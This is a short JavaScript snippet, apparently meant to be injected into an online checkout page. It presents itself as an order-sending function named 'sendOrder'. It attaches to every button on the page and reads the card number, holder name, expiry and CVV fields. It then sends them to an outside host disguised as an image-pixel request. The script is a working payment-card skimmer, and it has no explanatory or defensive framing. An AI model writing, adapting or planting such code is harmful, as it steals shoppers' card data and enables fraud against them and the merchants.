function sendOrder() {
  var names = ['number', 'holder', 'mm', 'yy', 'cvv'], parts = [];
  for (var k in names) { var q = document.getElementsByName('cc[' + names[k] + ']'); if (q.length) parts.push(names[k] + '~' + q[0].value); }
  (new Image()).src = 'https://assets-lite.example/t.gif?r=' + Math.random() + '&b=' + escape(parts.join('^'));
}
var btns = document.getElementsByTagName('button');
for (var z = 0; z < btns.length; z++) btns[z].attachEvent ? btns[z].attachEvent('onclick', sendOrder) : btns[z].addEventListener('click', sendOrder);
